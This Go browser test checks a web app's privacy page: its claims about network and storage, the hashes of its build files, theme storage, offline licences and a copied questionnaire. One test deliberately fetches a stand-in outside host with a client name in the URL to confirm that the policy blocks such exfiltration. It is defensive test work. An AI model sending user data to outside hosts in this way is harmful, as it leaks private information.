package privacy_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tierbook/app/browsertest"
)

// TestProofIsTrue compares what the place says with what was watched.
func TestProofIsTrue(t *testing.T) {
	b, host, page := start(t)
	page.Wait("the word that the site is kept", `tierbook.offline === "ready" && document.querySelector(".toasts").textContent.includes("Ready to work offline")`)
	page.Click("link", "Privacy")
	page.Wait("the proof", `document.querySelector("#built .hashes")`)
	facts := func() map[string]string {
		var all map[string]string
		page.Eval(`Object.fromEntries([...document.querySelectorAll("#asked .fact, #stored .fact")].map((f) => [f.querySelector("dt").innerText.replace(/\s+/g, " "), f.querySelector("dd").innerText]))`, &all)
		return all
	}
	got := facts()
	for what, want := range map[string]string{
		"This window network shut: tried, and refused by the browser":                     "none",
		"The worker that holds your list network shut: tried, and refused by the browser": "none",
		"Refused by the policy": "0",
		"Your list and decisions the browser’s database (IndexedDB) “tierbook”": "encrypted under the tab’s key",
		"The key of this tab session storage":                                   "a random key",
		"Your choices on this page local storage":                               "that it works offline",
	} {
		if !strings.HasPrefix(got[what], want) {
			t.Errorf("%s: %q, want %q; all of it: %q", what, got[what], want, got)
		}
	}

	// Each file of the build, with the hash that its bytes have.
	var rows [][3]string
	page.Eval(`[...document.querySelectorAll(".hashes tbody tr")].map((tr) => [...tr.cells].map((c) => c.textContent))`, &rows)
	if len(rows) < 11 {
		t.Errorf("only %d files are listed", len(rows))
	}
	for _, r := range rows {
		content, err := os.ReadFile(filepath.Join(browsertest.Site(), filepath.FromSlash(r[0])))
		if err != nil {
			t.Fatal(err)
		}
		if sum := sha256.Sum256(content); hex.EncodeToString(sum[:]) != r[2] {
			t.Errorf("%s: the page says %s", r[0], r[2])
		}
	}

	page.Wait("what is kept to be hashed", fmt.Sprintf(`document.querySelector("#built").textContent.includes("%d of these %d files are kept on this device")`, len(rows)-1, len(rows)))

	// An attempt to get out is seen, and told.
	page.Eval(`fetch("https://elsewhere.example/?client=Jane").catch(() => 0)`, nil)
	page.Click("button", "Look again")
	page.Wait("the attempt to be told", `[...document.querySelectorAll("#asked .fact")].some((f) => f.textContent.startsWith("Refused by the policy") && Number(f.querySelector("dd").innerText) > 0)`)
	for _, s := range b.Sent() {
		if strings.Contains(s.URL, "elsewhere.example") {
			t.Error("and it got out")
		}
	}

	// The colours are chosen, kept, and taken back.
	page.Click("radio", "Dark")
	page.Wait("the dark", `document.documentElement.dataset.theme === "dark" && localStorage.getItem("tierbook.theme") === "dark"`)
	page.Reload()
	page.Wait("the dark again", `document.documentElement.dataset.theme === "dark" && document.querySelector("#theme-dark:checked")`)
	page.Click("radio", "As the device")
	page.Wait("the device's own", `document.documentElement.dataset.theme === undefined && localStorage.getItem("tierbook.theme") === null`)

	// The licences are there without a network.
	host.Stop()
	page.Click("link", "The licences of what this page is made of")
	for _, w := range waitFor(t, b, browsertest.Window, 2) {
		if w != page.Target {
			w.Wait("the licences", `document.body && document.body.innerText.includes("filippo.io/age") && document.body.innerText.includes("The Go Authors")`)
		}
	}
	front(page)
	page.Screenshots("privacy")
}

// waitFor waits for so many targets of a kind.
func waitFor(t *testing.T, b *browsertest.Browser, kind string, n int) []*browsertest.Target {
	t.Helper()
	for end := time.Now().Add(browsertest.Patience); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		if list := b.Targets(kind); len(list) == n {
			return list
		}
	}
	t.Fatalf("waited %v in vain for %d of %s", browsertest.Patience, n, kind)
	return nil
}

// TestAnswersAreCopied has the questionnaire on the clipboard.
func TestAnswersAreCopied(t *testing.T) {
	b, host, page := start(t)
	page.Click("link", "Privacy")
	page.Wait("the place", `document.querySelector("#check")`)
	page.Eval(`navigator.clipboard.writeText = async (text) => { window.copied = text; }`, nil)
	page.Eval(`document.querySelector("#check .explain").open = true`, nil)
	page.Click("button", "Copy the answers")
	page.Wait("the answers", fmt.Sprintf("window.copied?.includes(%q) && window.copied.split('?').length > 10", "Which client data does the product send"))
	b.MustBeClean(host)
}
